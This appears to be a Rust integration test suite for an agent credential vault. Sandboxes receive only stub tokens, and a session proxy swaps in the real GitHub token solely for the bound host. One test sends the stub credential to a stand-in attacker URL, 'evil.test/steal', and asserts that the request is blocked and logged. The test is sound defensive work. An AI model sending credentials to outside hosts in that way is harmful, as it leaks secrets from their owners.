//! A session's credentials, end to end through the control plane: the agent's real value goes in
//! over the API, the sandbox gets only a stub, and the session's own vault listener swaps it back
//! on the way to the bound host — and nowhere else.
//!
//! The fake backend plays the sandbox: it records the environment a sandbox was given and serves its
//! egress listener on the host's loopback, where the test sends traffic as the agent would. The
//! upstream is a TLS server on 127.0.0.1 that the vault reaches through its resolve overrides.

use std::collections::BTreeMap;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use axum::Router;
use axum::body::Body;
use axum::http::{Method, Request, StatusCode, header};
use http_body_util::BodyExt;
use lap::api::{self, AppState};
use lap::control::{Control, Services};
use lap::sandbox::fake::Fake;
use lap::secret::Secret;
use lap::store::Store;
use lap::vault::ca::CertificateAuthority;
use lap::vault::intercept::{ResolveOverride, Vault};
use serde_json::{Value, json};
use tokio_util::sync::CancellationToken;
use tokio_util::task::TaskTracker;
use tower::ServiceExt;

use crate::support;
use crate::support::upstream::{curl, upstream};

const KEY: &str = "session-vault-master-key";
const REAL: &str = "ghp_TheRealTokenThatMustNeverBeSeen42";
const PREFIX: &str = "/api/v1/managed_agents";
const DEADLINE: Duration = Duration::from_secs(10);

struct Server {
    router: Router,
    fake: Arc<Fake>,
    /// The plane's tasks that live as long as a session, and its shutdown token.
    session_tasks: TaskTracker,
    shutdown: CancellationToken,
    vault_ca: std::path::PathBuf,
    upstream_port: u16,
    seen: Arc<Mutex<Vec<support::upstream::Seen>>>,
    _dir: tempfile::TempDir,
}

impl Server {
    async fn start() -> Self {
        let _ = rustls::crypto::ring::default_provider().install_default();
        let dir = tempfile::tempdir().unwrap();
        let public_ca = Arc::new(CertificateAuthority::load_or_create(&dir.path().join("public-ca")).unwrap());
        let seen = Arc::new(Mutex::new(Vec::new()));
        let upstream_port = upstream(public_ca.clone(), seen.clone(), true).await;
        let loopback = "127.0.0.1".parse().unwrap();
        let resolve = ["api.github.test", "evil.test"]
            .map(|host| ResolveOverride {
                host: host.into(),
                port: upstream_port,
                addr: loopback,
            })
            .to_vec();
        let root = rustls_pki_types::pem::PemObject::from_pem_slice(public_ca.cert_pem().as_bytes()).unwrap();
        let ca = Arc::new(CertificateAuthority::load_or_create(&dir.path().join("data/vault")).unwrap());
        let vault_ca = dir.path().join("vault-ca.pem");
        std::fs::write(&vault_ca, ca.cert_pem()).unwrap();
        let store = Store::open(&dir.path().join("data")).unwrap();
        let fake = Arc::new(Fake::default());
        let vault = Arc::new(Vault::new(ca, resolve, vec![root]).unwrap());
        let (session_tasks, shutdown) = (TaskTracker::new(), CancellationToken::new());
        let control = Control::new(Services {
            session_tasks: session_tasks.clone(),
            shutdown: shutdown.clone(),
            ..Services::new(store.clone(), fake.clone(), vault)
        });
        let router = api::router(AppState {
            store,
            control,
            master_key: Arc::new(Secret::new(KEY)),
            oidc: None,
        });
        Self {
            router,
            fake,
            session_tasks,
            shutdown,
            vault_ca,
            upstream_port,
            seen,
            _dir: dir,
        }
    }

    async fn call(&self, method: Method, path: &str, body: Option<Value>) -> (StatusCode, String) {
        let mut request = Request::builder()
            .method(method)
            .uri(path)
            .header(header::AUTHORIZATION, format!("Bearer {KEY}"));
        if body.is_some() {
            request = request.header(header::CONTENT_TYPE, "application/json");
        }
        let body = body.map_or_else(Body::empty, |b| Body::from(b.to_string()));
        let response = self.router.clone().oneshot(request.body(body).unwrap()).await.unwrap();
        let status = response.status();
        let bytes = response.into_body().collect().await.unwrap().to_bytes();
        (status, String::from_utf8(bytes.to_vec()).unwrap())
    }

    async fn json(&self, method: Method, path: &str, body: Option<Value>) -> Value {
        let (status, text) = self.call(method, path, body).await;
        assert!(status.is_success(), "{status}: {text}");
        serde_json::from_str(&text).unwrap()
    }

    /// A ready session of an agent holding one credential bound to `api.github.test`, swapped in
    /// its `Authorization` header and its `token` query parameter.
    async fn ready_session(&self) -> (Value, String) {
        self.ready_session_injected(json!(["authorization", "query:token"]))
            .await
    }

    /// [`Self::ready_session`] with the credential's injection points `inject`.
    async fn ready_session_injected(&self, inject: Value) -> (Value, String) {
        let agent = json!({
            "name": "coder",
            "harness_id": "shell",
            "env": {"EDITOR": "vi"},
            "credentials": [{"name": "GITHUB_TOKEN", "value": REAL, "hosts": ["api.github.test"], "inject": inject}],
        });
        self.json(Method::POST, &format!("{PREFIX}/agents"), Some(agent)).await;
        let session = self
            .json(Method::POST, &format!("{PREFIX}/agents/coder/session"), None)
            .await;
        let id = session["id"].as_str().unwrap().to_owned();
        support::wait_until_async(&format!("session {id} ready"), DEADLINE, || async {
            let session = self.json(Method::GET, &format!("{PREFIX}/sessions/{id}"), None).await;
            match session["status"].as_str().unwrap() {
                "ready" => {
                    let sandbox = session["sandbox_url"]
                        .as_str()
                        .unwrap()
                        .trim_start_matches("fake://")
                        .to_owned();
                    Ok((session, sandbox))
                }
                "creating" => Err(session),
                other => panic!("session ended up {other}: {session}"),
            }
        })
        .await
    }

    /// The session's egress log once it holds at least `count` records (they are stored
    /// asynchronously, off the request path).
    async fn egress_log(&self, id: &str, count: usize) -> Vec<Value> {
        support::wait_until_async(&format!("{count} egress records"), DEADLINE, || async {
            let log = self
                .json(Method::GET, &format!("{PREFIX}/sessions/{id}/interceptions"), None)
                .await;
            let log = log.as_array().unwrap().clone();
            if log.len() >= count {
                Ok(log)
            } else {
                Err(format!("{} records", log.len()))
            }
        })
        .await
    }

    fn url(&self, host: &str, path: &str) -> String {
        format!("https://{host}:{}{path}", self.upstream_port)
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn the_sandbox_gets_a_stub_and_the_proxy_setup_never_the_real_value() {
    let server = Server::start().await;
    let (session, sandbox) = server.ready_session().await;
    let env: BTreeMap<String, String> = server.fake.env(&sandbox).unwrap().into_iter().collect();
    let stub = &env["GITHUB_TOKEN"];
    assert!(
        stub.starts_with("stub_github_token_") && stub.len() == "stub_github_token_".len() + 16,
        "{stub}"
    );
    assert!(
        env.values().all(|v| !v.contains(REAL)),
        "a real value is in the sandbox's environment"
    );
    assert_eq!(env["HTTPS_PROXY"], "http://127.0.0.1:3128");
    assert_eq!(env["SSL_CERT_FILE"], "/etc/ssl/certs/ca-certificates.crt");
    assert_eq!(env["EDITOR"], "vi");
    let id = session["id"].as_str().unwrap();
    let keys = server
        .json(Method::GET, &format!("{PREFIX}/sessions/{id}/vault-keys"), None)
        .await;
    assert_eq!(keys, json!(["GITHUB_TOKEN"]));
    // A second session of the same agent gets its own stub.
    let other = server
        .json(Method::POST, &format!("{PREFIX}/agents/coder/session"), None)
        .await;
    let other_id = other["id"].as_str().unwrap().to_owned();
    let other_sandbox = support::wait_until_async("the second session ready", DEADLINE, || async {
        let s = server
            .json(Method::GET, &format!("{PREFIX}/sessions/{other_id}"), None)
            .await;
        (s["status"] == "ready").then(|| {
            s["sandbox_url"]
                .as_str()
                .unwrap()
                .trim_start_matches("fake://")
                .to_owned()
        })
    })
    .await;
    let other_env: BTreeMap<String, String> = server.fake.env(&other_sandbox).unwrap().into_iter().collect();
    assert_ne!(&other_env["GITHUB_TOKEN"], stub);
}

#[tokio::test(flavor = "multi_thread")]
async fn the_sessions_vault_swaps_for_the_bound_host_blocks_elsewhere_and_records_both() {
    let server = Server::start().await;
    let (session, sandbox) = server.ready_session().await;
    let id = session["id"].as_str().unwrap();
    let env: BTreeMap<String, String> = server.fake.env(&sandbox).unwrap().into_iter().collect();
    let stub = env["GITHUB_TOKEN"].clone();
    let proxy = server
        .fake
        .proxy_addr(&sandbox)
        .expect("the vault serves the sandbox's egress listener");
    let auth = format!("Authorization: token {stub}");

    let (status, output) = curl(
        proxy,
        &server.vault_ca,
        &["-H", &auth, &server.url("api.github.test", "/user")],
    )
    .await;
    assert_eq!(status, 200, "{output}");
    assert!(
        !output.contains(REAL),
        "the real value came back to the sandbox: {output}"
    );
    assert!(output.contains(&stub), "the echo should carry the stub again: {output}");
    assert_eq!(
        server.seen.lock().unwrap()[0].header("authorization"),
        Some(format!("token {REAL}").as_str())
    );

    let (status, output) = curl(
        proxy,
        &server.vault_ca,
        &["-H", &auth, &server.url("evil.test", "/steal")],
    )
    .await;
    assert_eq!(status, 403, "{output}");
    assert_eq!(server.seen.lock().unwrap().len(), 1, "evil.test must receive nothing");

    let log = server.egress_log(id, 2).await;
    assert_eq!(log.len(), 2, "{log:?}");
    assert_eq!(
        (log[0]["host"].as_str(), log[0]["swapped"].clone()),
        (Some("api.github.test"), json!(["GITHUB_TOKEN"]))
    );
    assert_eq!(log[1]["host"], "evil.test");
    assert!(log[1]["blocked"].as_str().unwrap().contains("not bound"), "{}", log[1]);
    let text = serde_json::to_string(&log).unwrap();
    assert!(!text.contains(REAL), "the log holds no real value");

    // The log is kept: after the session is gone it is still there, and `after` follows it.
    server
        .json(Method::DELETE, &format!("{PREFIX}/sessions/{id}"), None)
        .await;
    let kept = server
        .json(Method::GET, &format!("{PREFIX}/sessions/{id}/interceptions"), None)
        .await;
    assert_eq!(kept.as_array().unwrap().len(), 2);
    let first = log[0]["id"].as_u64().unwrap();
    let rest = server
        .json(
            Method::GET,
            &format!("{PREFIX}/sessions/{id}/interceptions?after={first}"),
            None,
        )
        .await;
    assert_eq!(rest.as_array().unwrap().len(), 1);
    assert_eq!(rest[0]["host"], "evil.test");
}

#[tokio::test(flavor = "multi_thread")]
async fn the_egress_log_redacts_query_values_and_names_the_swapped_stub() {
    let server = Server::start().await;
    let (session, sandbox) = server.ready_session().await;
    let id = session["id"].as_str().unwrap();
    let env: BTreeMap<String, String> = server.fake.env(&sandbox).unwrap().into_iter().collect();
    let stub = env["GITHUB_TOKEN"].clone();
    let proxy = server.fake.proxy_addr(&sandbox).unwrap();
    let url = server.url("api.github.test", &format!("/search?q=secret-project&token={stub}"));
    let (status, output) = curl(proxy, &server.vault_ca, &[&url]).await;
    assert_eq!(status, 200, "{output}");
    let log = server.egress_log(id, 1).await;
    assert_eq!(log[0]["path"], "/search?q=…&token=…");
    assert_eq!(log[0]["stubs_swapped"], json!([stub]));
    assert!(log[0]["duration_ms"].as_u64().is_some());
}

#[tokio::test(flavor = "multi_thread")]
async fn the_injection_points_stored_for_a_credential_are_the_ones_its_session_vault_enforces() {
    let server = Server::start().await;
    let (_, sandbox) = server.ready_session_injected(json!(["header:x-token"])).await;
    let env: BTreeMap<String, String> = server.fake.env(&sandbox).unwrap().into_iter().collect();
    let stub = env["GITHUB_TOKEN"].clone();
    let proxy = server.fake.proxy_addr(&sandbox).unwrap();

    // Its declared point: swapped.
    let declared = format!("X-Token: {stub}");
    let (status, output) = curl(
        proxy,
        &server.vault_ca,
        &["-H", &declared, &server.url("api.github.test", "/user")],
    )
    .await;
    assert_eq!(status, 200, "{output}");
    assert_eq!(server.seen.lock().unwrap()[0].header("x-token"), Some(REAL));

    // `Authorization` is not one of this credential's points (the stored set replaced the preset's):
    // refused before anything reaches the upstream.
    let elsewhere = format!("Authorization: Bearer {stub}");
    let (status, output) = curl(
        proxy,
        &server.vault_ca,
        &["-H", &elsewhere, &server.url("api.github.test", "/user")],
    )
    .await;
    assert_eq!(status, 403, "{output}");
    assert!(
        output
            .to_ascii_lowercase()
            .contains("x-lap-vault-blocked: credential-not-injectable"),
        "{output}"
    );
    assert_eq!(
        server.seen.lock().unwrap().len(),
        1,
        "the upstream received nothing more"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn deleting_the_session_closes_its_egress() {
    let server = Server::start().await;
    let (session, sandbox) = server.ready_session().await;
    let proxy = server.fake.proxy_addr(&sandbox).unwrap();
    assert!(tokio::net::TcpStream::connect(proxy).await.is_ok());
    let id = session["id"].as_str().unwrap();
    server
        .json(Method::DELETE, &format!("{PREFIX}/sessions/{id}"), None)
        .await;
    support::wait_until_async("the egress listener closed after delete", DEADLINE, || async {
        tokio::net::TcpStream::connect(proxy).await.is_err()
    })
    .await;
    let log = server
        .json(Method::GET, &format!("{PREFIX}/sessions/{id}/interceptions"), None)
        .await;
    assert_eq!(log, json!([]));
}

/// Shutdown ends a session's vault — its listener and its egress log writer — even while the
/// sandbox holds a tunnel open (an idle TLS connection through the vault, which would otherwise
/// hold the writer for the vault's idle timeout): `lap serve`'s drain then finds them done. What
/// was recorded before is kept.
#[tokio::test(flavor = "multi_thread")]
async fn shutdown_ends_a_sessions_vault_while_a_tunnel_is_open_and_keeps_its_records() {
    let server = Server::start().await;
    let (session, sandbox) = server.ready_session().await;
    let id = session["id"].as_str().unwrap();
    let proxy = server.fake.proxy_addr(&sandbox).unwrap();
    let (status, output) = curl(proxy, &server.vault_ca, &[&server.url("api.github.test", "/zen")]).await;
    assert_eq!(status, 200, "{output}");
    server.egress_log(id, 1).await;

    let tcp = support::upstream::connect_through(proxy, "api.github.test", server.upstream_port).await;
    let name = rustls_pki_types::ServerName::try_from("api.github.test").unwrap();
    let held = support::upstream::client_trusting(&server.vault_ca, &[])
        .connect(name, tcp)
        .await
        .expect("a tunnel through the session's vault");

    server.shutdown.cancel();
    server.session_tasks.close();
    tokio::time::timeout(DEADLINE, server.session_tasks.wait())
        .await
        .expect("the session's vault tasks end on shutdown, the open tunnel notwithstanding");
    assert!(
        tokio::net::TcpStream::connect(proxy).await.is_err(),
        "the egress listener is closed"
    );
    drop(held);
    let log = server
        .json(Method::GET, &format!("{PREFIX}/sessions/{id}/interceptions"), None)
        .await;
    assert_eq!(log.as_array().map(Vec::len), Some(1), "{log}");
}

#[tokio::test(flavor = "multi_thread")]
async fn the_vault_ca_is_served_openly() {
    let server = Server::start().await;
    let request = Request::get("/api/v1/vault/ca.pem").body(Body::empty()).unwrap();
    let response = server.router.clone().oneshot(request).await.unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    let pem = response.into_body().collect().await.unwrap().to_bytes();
    assert_eq!(pem, std::fs::read(&server.vault_ca).unwrap());
    let (status, _) = server
        .call(
            Method::GET,
            &format!("{PREFIX}/sessions/00000000-0000-4000-8000-000000000000/interceptions"),
            None,
        )
        .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
}
